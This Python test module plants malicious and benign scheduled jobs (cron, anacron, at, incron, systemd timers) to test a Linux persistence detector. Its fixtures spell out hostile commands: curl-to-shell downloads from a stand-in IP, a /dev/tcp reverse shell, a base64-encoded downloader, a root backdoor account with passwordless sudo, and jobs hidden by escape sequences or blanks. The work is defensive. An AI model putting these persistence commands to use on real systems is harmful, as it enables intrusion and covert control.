"""Scheduled jobs of every kind: cron of all distributions, anacron, at, incron, systemd timers, and how they hide."""

from __future__ import annotations

import base64

from tests.lab.case import case
from tests.lab.cases_persistence import system_cron, user_cron
from tests.lab.room import Planted, Room

_DOWNLOAD = "curl -fsSL http://203.0.113.9/i.sh | sh"
_AT_JOB = """#!/bin/sh
# atrun uid=0 gid=0
# mail root 0
umask 22
PATH=/usr/sbin:/usr/bin:/sbin:/bin; export PATH
PWD=/root; export PWD
cd /root || {{
\t echo 'Execution directory inaccessible' >&2
\t exit 1
}}
${{SHELL:-/bin/sh}} << 'marcinDELIMITER1c9c8d9f'
{}

marcinDELIMITER1c9c8d9f
"""
_TIMER = "[Unit]\nDescription={0}\n[Timer]\n{1}\n[Install]\nWantedBy=timers.target\n"
_SERVICE = "[Unit]\nDescription=x\n[Service]\nType=oneshot\nExecStart={}\n"
# Text of stock files of Debian 12, Ubuntu 24.04 and EL9.
_DEBIAN_CRONTAB = """# /etc/crontab: system-wide crontab
SHELL=/bin/sh
PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin

17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly
25 6\t* * *\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }
47 6\t* * 7\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.weekly; }
52 6\t1 * *\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.monthly; }
#
"""
_STOCK_JOBS = {
    "anacron": "30 7-23 * * *   root\t[ -x /etc/init.d/anacron ] && if [ ! -d /run/systemd/system ]; then "
    "/usr/sbin/invoke-rc.d anacron start >/dev/null; fi",
    "certbot": "0 */12 * * * root test -x /usr/bin/certbot -a \\! -d /run/systemd/system && perl -e 'sleep int(rand(43200))' && "
    "certbot -q renew --no-random-sleep-on-renew",
    "php": "09,39 *     * * *     root   [ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then "
    "/usr/lib/php/sessionclean; fi",
    "sysstat": "5-55/10 * * * * root command -v debian-sa1 > /dev/null && debian-sa1 1 1",
    "popularity-contest": "25 6 * * * root test -x /etc/cron.daily/popularity-contest && "
    "/etc/cron.daily/popularity-contest --crond",
    "mdadm": "57 0 * * 0 root if [ -x /usr/share/mdadm/checkarray ] && [ $(date +\\%d) -le 7 ]; then "
    "/usr/share/mdadm/checkarray --cron --all --idle --quiet; fi",
    "0hourly": "SHELL=/bin/bash\nPATH=/sbin:/bin:/usr/sbin:/usr/bin\nMAILTO=root\n01 * * * * root run-parts /etc/cron.hourly",
    "raid-check": "0 1 * * Sun root /usr/sbin/raid-check",
}
_LOGROTATE = """#!/bin/sh
# skip in favour of systemd timer
if [ -d /run/systemd/system ]; then
    exit 0
fi
# this cronjob persists removals (but not purges)
if [ ! -x /usr/sbin/logrotate ]; then
    exit 0
fi
/usr/sbin/logrotate /etc/logrotate.conf
EXITVALUE=$?
if [ $EXITVALUE != 0 ]; then
    /usr/bin/logger -t logrotate "ALERT exited abnormally with [$EXITVALUE]"
fi
exit $EXITVALUE
"""
_EL9_ANACRON = """#!/usr/bin/sh
# Check whether 0anacron was run today already
if test -r /var/spool/anacron/cron.daily; then
    day=`cat /var/spool/anacron/cron.daily`
fi
if [ `date +%Y%m%d` = "$day" ]; then
    exit 0
fi
# Do not run jobs when on battery power
online=1
for psupply in /sys/class/power_supply/* ; do
    if [ `cat $psupply/type 2>/dev/null`x = Mainsx ] && [ -f $psupply/online ]; then
        online=`cat $psupply/online`
    fi
done
if [ $online = 0 ]; then
    exit 0
fi
/usr/sbin/anacron -s
"""


@case(2, cron_download_and_run="path", cron_file_odd="path")
def hidden_file_in_cron_d(room: Room) -> Planted:
    """a dotfile in cron.d with a downloader."""
    return system_cron(room, ".systemd-cache", f"*/20 * * * * root {_DOWNLOAD}")


@hidden_file_in_cron_d.twin
def _(room: Room) -> Planted:
    """the stock crontabs of Debian, Ubuntu and EL, and a placeholder."""
    room.write("/etc/cron.d/.placeholder", "# DO NOT EDIT OR REMOVE\n# This file is a simple placeholder to keep dpkg\n")
    for name, line in _STOCK_JOBS.items():
        system_cron(room, name, line)
    return {"path": room.write("/etc/crontab", _DEBIAN_CRONTAB)}


@case(9, cron_download_and_run="path")
def job_that_grants_access(room: Room) -> Planted:
    """a job that keeps an account with root's number, and one that is root without a password, in their files."""
    account = "grep -q ^ops: /etc/passwd || echo 'ops:x:0:0::/root:/bin/bash' >> /etc/passwd"
    right = "echo 'ops ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/ops"
    return system_cron(room, "accounts", f"*/30 * * * * root {account}; {right}")


@job_that_grants_access.twin
def _(room: Room) -> Planted:
    """a job that reports who may be root, and one that copies a key which its server keeps."""
    report = "awk -F: '$3 == 0' /etc/passwd >> /var/log/roots; grep -r NOPASSWD /etc/sudoers.d >> /var/log/roots"
    return system_cron(room, "accounts", f"@daily root {report}\n@hourly backup cat /srv/keys/backup.pub > .ssh/authorized_keys")


@case(9, cron_download_and_run="path")
def job_in_another_language(room: Room) -> Planted:
    """jobs whose Lua and Python, given as an argument and as a here-document, have a shell run a download."""
    lua = f"lua -e 'os.execute(\"{_DOWNLOAD}\")'"
    script = room.write(
        "/usr/local/sbin/refresh", f"#!/bin/sh\npython3 - <<EOF\nimport os\nos.system('{_DOWNLOAD}')\nEOF\n", 0o755
    )
    return system_cron(room, "refresh", f"*/30 * * * * root {lua}\n*/40 * * * * root {script}")


@job_in_another_language.twin
def _(room: Room) -> Planted:
    """a job whose Perl waits and whose Python reads a file."""
    wait = "perl -e 'sleep int(rand(3600))'"
    count = "python3 -c 'import json; print(len(json.load(open(\"/srv/list.json\"))))'"
    return system_cron(room, "refresh", f"5 * * * * root {wait} && {count}")


@case(9, cron_temporary_or_hidden_program="path")
def job_at_boot(room: Room) -> Planted:
    """an @reboot job with a hidden program below /usr."""
    room.program("/usr/lib/.libcache/udevd")
    return user_cron(room, "root", "@reboot sleep 30 && nohup /usr/lib/.libcache/udevd >/dev/null 2>&1 &")


@job_at_boot.twin
def _(room: Room) -> Planted:
    """an @reboot job with a home-made program in /opt."""
    room.program("/opt/tunnel/run")
    return user_cron(room, "root", "@reboot sleep 30 && nohup /opt/tunnel/run >/dev/null 2>&1 &")


@case(15, cron_hides_text="path")
def job_wiped_from_the_terminal(room: Room) -> Planted:
    """escape sequences in the comment behind a job wipe it from the screen."""
    return user_cron(room, "root", "*/7 * * * * /opt/lab/worker\n#\x1b[1A\x1b[2K no crontab for root")


@job_wiped_from_the_terminal.twin
def _(room: Room) -> Planted:
    """a job that prints in colour, and one with another language's comment."""
    return user_cron(room, "root", "# täglich 每天\n5 4 * * * printf '\\033[1mdone\\033[0m' | logger")


@case(15, cron_hides_text="path")
def job_behind_blanks(room: Room) -> Planted:
    """a job pushed out of sight by hundreds of blanks."""
    return system_cron(room, "tidy", "1 1 * * * root true" + " " * 400 + "; /opt/lab/worker")


@job_behind_blanks.twin
def _(room: Room) -> Planted:
    """a crontab laid out in columns."""
    return system_cron(room, "columns", "1   1    *    *    *      root      /usr/bin/true            # every night")


@case(15, cron_for_service_account="path")
def crontab_of_the_nobody_account(room: Room) -> Planted:
    """a SUSE-style crontab of nobody with a program of its own."""
    room.program("/var/lib/nobody/run")
    return {"path": room.write("/var/spool/cron/tabs/nobody", "*/2 * * * * /var/lib/nobody/run\n", 0o600)}


@crontab_of_the_nobody_account.twin
def _(room: Room) -> Planted:
    """the web server's account calls its own page."""
    return user_cron(room, "www-data", "*/5 * * * * wget -q -O- https://shop.example.org/cron.php >/dev/null")


@case(2, cron_download_and_run="path")
def hourly_script(room: Room) -> Planted:
    """a script in cron.hourly that fetches and runs, as XorDDoS has it."""
    text = f"#!/bin/sh\nPATH=/bin:/usr/bin\nfor i in 1 2; do\n  {_DOWNLOAD}\ndone\n"
    return {"path": room.write("/etc/cron.hourly/gcc.sh", text, 0o755)}


@hourly_script.twin
def _(room: Room) -> Planted:
    """stock and home-made scripts of cron.daily and cron.hourly."""
    room.write("/etc/cron.hourly/0anacron", _EL9_ANACRON, 0o755)
    room.write("/etc/cron.daily/report", "#!/usr/bin/python3\nimport os, sys\nprint(os.getloadavg())\n", 0o755)
    return {"path": room.write("/etc/cron.daily/logrotate", _LOGROTATE, 0o755)}


@case(2, cron_download_and_run="path")
def anacron_job(room: Room) -> Planted:
    """an anacron job that opens a socket from the shell."""
    line = "1 5 cron.daily nice run-parts /etc/cron.daily\n1 10 net.check bash -c 'exec 3<>/dev/tcp/203.0.113.9/443; sh <&3'\n"
    return {"path": room.write("/etc/anacrontab", f"SHELL=/bin/sh\n{line}")}


@anacron_job.twin
def _(room: Room) -> Planted:
    """the anacrontab of EL."""
    text = "SHELL=/bin/sh\nPATH=/sbin:/bin:/usr/sbin:/usr/bin\nMAILTO=root\nRANDOM_DELAY=45\nSTART_HOURS_RANGE=3-22\n"
    text += "1\t5\tcron.daily\t\tnice run-parts /etc/cron.daily\n@monthly 45\tcron.monthly\t\tnice run-parts /etc/cron.monthly\n"
    return {"path": room.write("/etc/anacrontab", text)}


@case(2, cron_download_and_run="path", cron_temporary_or_hidden_program="path")
def at_job(room: Room) -> Planted:
    """an at job that fetches a program and runs it from /var/tmp."""
    text = _AT_JOB.format("wget -q http://203.0.113.9/k -O /var/tmp/k; chmod +x /var/tmp/k; /var/tmp/k")
    return {"path": room.write("/var/spool/cron/atjobs/a0000101c0ffee", text, 0o700)}


@at_job.twin
def _(room: Room) -> Planted:
    """an at job that restarts a service."""
    text = _AT_JOB.format("systemctl restart nginx && echo restarted | mail -s nginx root")
    return {"path": room.write("/var/spool/at/a0000201c0ffee", text, 0o700)}


@case(2, cron_download_and_run="path")
def alpine_crontab(room: Room) -> Planted:
    """Alpine's crontab of root starts a miner by its pool."""
    return {"path": room.write("/etc/crontabs/root", "* * * * * /opt/lab/sh -o stratum+tcp://203.0.113.9:3333 -k\n", 0o600)}


@alpine_crontab.twin
def _(room: Room) -> Planted:
    """Alpine's own crontab and a script for it."""
    lines = "*/15 * * * * run-parts /etc/periodic/15min\n0 2 * * * run-parts /etc/periodic/daily\n"
    room.write("/etc/periodic/daily/apk-cache", "#!/bin/sh\napk cache clean --purge\n", 0o755)
    return {"path": room.write("/etc/crontabs/root", lines, 0o600)}


@case(2, cron_download_and_run="path")
def encoded_job(room: Room) -> Planted:
    """a job with an encoded payload, printed by Python into a shell."""
    payload = base64.b64encode(_DOWNLOAD.encode()).decode()
    code = f'import base64;exec(base64.b64decode("{base64.b64encode(b"import os;os.system(1)").decode()}"))'
    return user_cron(room, "root", f"3 * * * * echo {payload}|base64 -d|bash; python3 -c '{code}'")


@encoded_job.twin
def _(room: Room) -> Planted:
    """a job with a long identifier, which a monitoring service asks for."""
    line = "0 3 * * * root /usr/bin/true && curl -fsS -m 10 --retry 5 https://hc-ping.com/5f0a1b2c-8c1e-4f0e-9a7c-0123456789ab"
    return system_cron(room, "ping", line)


@case(2, cron_download_and_run="path")
def job_in_the_input(room: Room) -> Planted:
    """a job whose command is `sh` and whose script stands behind a percent sign."""
    return user_cron(room, "root", f"*/9 * * * * sh%{_DOWNLOAD}%exit")


@job_in_the_input.twin
def _(room: Room) -> Planted:
    """a mail with its text behind a percent sign, and a date."""
    user_cron(room, "backup", "0 4 * * * tar czf /var/backups/etc-$(date +\\%F).tgz /etc")
    return user_cron(room, "root", "0 9 * * 1 mail -s lunch root%Menu: curl of the day | soup%Regards")


@case(2, cron_download_and_run="path")
def script_one_level_down(room: Room) -> Planted:
    """a harmless line runs a script that pipes a download into a shell."""
    room.write("/usr/local/bin/sys-update.sh", f"#!/bin/bash\n# keep the system current\n{_DOWNLOAD} >/dev/null 2>&1\n", 0o755)
    return system_cron(room, "sys-update", "10 * * * * root /usr/local/bin/sys-update.sh")


@script_one_level_down.twin
def _(room: Room) -> Planted:
    """a backup script that pipes, fetches and reports."""
    text = "#!/bin/bash\nset -e\npg_dump shop | gzip > /srv/shop.sql.gz\ncurl -fsS https://backup.example.org/done >/dev/null\n"
    room.write("/opt/backup/run.sh", text, 0o755)
    return system_cron(room, "backup", "10 2 * * * root /opt/backup/run.sh")


@case(9, cron_runs_odd_script="path")
def script_with_a_hidden_program(room: Room) -> Planted:
    """a home-made script starts a program in /dev/shm."""
    room.write("/usr/local/sbin/netcheck", "#!/bin/sh\npgrep -x kw || nohup /dev/shm/kw >/dev/null 2>&1 &\n", 0o755)
    return system_cron(room, "netcheck", "*/3 * * * * root /usr/local/sbin/netcheck")


@script_with_a_hidden_program.twin
def _(room: Room) -> Planted:
    """a home-made script that works in a temporary folder."""
    text = "#!/bin/sh\nW=$(mktemp -d)\ncd $W && tar xf /srv/in.tar && cp -r out /srv/out\nrm -rf $W\n"
    room.write("/usr/local/sbin/unpack", text, 0o755)
    return system_cron(room, "unpack", "*/30 * * * * root /usr/local/sbin/unpack")


@case(2, cron_download_and_run="path")
def preload_in_the_crontab(room: Room) -> Planted:
    """a crontab that loads a library into all that it runs."""
    return system_cron(room, "locale", "SHELL=/bin/sh\nLD_PRELOAD = /usr/local/lib/libnet.so\n*/5 * * * * root /usr/bin/true")


@preload_in_the_crontab.twin
def _(room: Room) -> Planted:
    """a crontab that sets the variables of an application."""
    lines = 'MAILTO=""\nCRON_TZ=UTC\nPATH=/opt/shop/bin:/usr/bin:/bin\nAPP_ENV=production\nDATABASE_URL="postgres://shop@db/shop"'
    return system_cron(room, "shop", f"{lines}\n*/5 * * * * root cd /opt/shop && python3 manage.py tick")


@case(2, cron_download_and_run="path")
def incron_job(room: Room) -> Planted:
    """incron fetches a program whenever somebody cleans up."""
    return {"path": room.write("/var/spool/incron/root", f"/etc/cron.d IN_DELETE bash -c '{_DOWNLOAD}'\n", 0o600)}


@incron_job.twin
def _(room: Room) -> Planted:
    """incron hands uploads to a script."""
    return {"path": room.write("/etc/incron.d/uploads", "/srv/in IN_CLOSE_WRITE,IN_MOVED_TO /opt/shop/import $@/$#\n")}


@case(2, cron_temporary_or_hidden_program="path")
def timer_of_a_temporary_program(room: Room) -> Planted:
    """a systemd timer that starts a program in /var/tmp after boot."""
    room.write("/etc/systemd/system/font-cache.service", _SERVICE.format("/var/tmp/.font/run -q"))
    timer = room.write("/etc/systemd/system/font-cache.timer", _TIMER.format("fonts", "OnBootSec=2min\nOnUnitActiveSec=5min"))
    room.link(timer, "/etc/systemd/system/timers.target.wants/font-cache.timer")
    return {"path": timer}


@timer_of_a_temporary_program.twin
def _(room: Room) -> Planted:
    """a systemd timer of an application."""
    room.write("/opt/shop/nightly", "#!/bin/sh\nexec python3 /opt/shop/manage.py nightly\n", 0o755)
    room.write("/etc/systemd/system/shop.service", _SERVICE.format("/opt/shop/nightly"))
    timer = room.write("/etc/systemd/system/shop.timer", _TIMER.format("shop", "OnCalendar=*-*-* 02:30:00\nPersistent=true"))
    room.link(timer, "/etc/systemd/system/timers.target.wants/shop.timer")
    return {"path": timer}
